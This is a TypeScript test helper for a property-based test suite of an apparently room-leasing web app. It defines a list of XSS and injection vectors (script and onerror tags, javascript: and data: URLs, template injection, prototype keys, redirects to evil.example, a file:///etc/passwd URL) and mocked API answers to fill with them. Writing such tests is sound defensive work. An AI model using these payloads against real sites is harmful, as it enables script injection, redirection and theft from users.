import fc from '../setup/fast-check.ts';
import { floors, room } from './facility.ts';
import { lease } from './my-room/my-room.ts';

/** What has broken out of a page somewhere before. */
const VECTORS = [
  '<script>document.title="owned"</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><input name=token>',
  '<style>*{display:none}</style>',
  '</style><link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<slot></slot>',
  '<template shadowrootmode=open><b>x</b></template>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'javascript:alert(1)',
  'JaVaScRiPt&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'java\nscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:http://localhost/1',
  'file:///etc/passwd',
  '{{constructor.constructor("alert(1)")()}}',
  '{{number}}{{count}}{{date}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a careless template would fill in.
  '${alert(1)}',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u202Egnp.exe\u202C',
  '\uFEFF\u0000\uFFFD',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003e',
  '$& $1 $` $$',
];

/** A vector with anything before and behind it. */
export const payload: fc.Arbitrary<string> = fc
  .tuple(
    fc.string({ maxLength: 4 }),
    fc.constantFrom(...VECTORS),
    fc.string({ maxLength: 4, unit: 'binary' }),
  )
  .map(([before, vector, behind]) => before + vector + behind);

const DATE = /^\d{4}-\d\d-\d\d/;

/** The same value with every string in another's place; days stay where they are asked to. */
export function filled(value: unknown, text: string, days: boolean): unknown {
  if (typeof value === 'string') return days && DATE.test(value) ? value : text;
  if (Array.isArray(value)) return value.map((each) => filled(each, text, days));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, filled(each, text, days)]));
}

/** One answer to every call, with every string that the contract has. */
export const ANSWERS: Record<string, unknown> = {
  '/floor/getfiltered': { data: { data: floors } },
  '/floor/get': { value: { image: 'http://img.test/1.svg' } },
  '/room/getfiltered': { data: { data: [room()] } },
  '/room/canlease': { value: true },
  '/room/getstatus': { value: 1 },
  '/calculation/roomprice': {
    ...{ fullMonthPrice: 500, discountAmount: 50, discountDuration: 2, paidPeriodStart: '2026-01-01' },
  },
  '/authentication/signup': {},
  '/authentication/signin': { error: 'why not' },
  '/authentication/refreshtoken': { token: 'fresh' },
  '/lease/getfiltered': { data: [lease(), lease({ id: 8, endDate: '2026-12-20' })] },
  '/lease/getpayedperiodend': { value: '2026-12-20' },
  '/lease/cancel': {},
  '/lease/createwithcheckout': { sessionId: 'cs', url: 'https://checkout.example/cs' },
  '/gate/getfiltered': { data: { data: [{ id: 1, name: 'Port', status: 0 }] } },
  '/gate/getstatus': { value: 1 },
  '/nox/opengate': {},
  '/otp/requestcode': {},
  '/passwordrestore/generatelink': {},
  '/stripe/getinvoicesfiltered': {
    data: [
      { id: 'in', number: 'A-1', created: '2026-01-31', total: 1, invoicePdf: 'https://pay.test/1.pdf' },
    ],
  },
  '/stripe/getpaymentmethods': {
    data: [{ id: 'pm', card: { brand: 'visa', last4: '4242', expMonth: 4, expYear: 2028 } }],
    nextPaymentDate: '2026-12-21',
  },
  '/user/getcurrent': {
    value: {
      ...{ customerNumber: '1', firstName: 'Maja', lastName: 'Holm', email: 'maja@example.dk' },
      ...{ phoneNumber: '+4528123456', mobile: '+4528123457' },
    },
  },
};
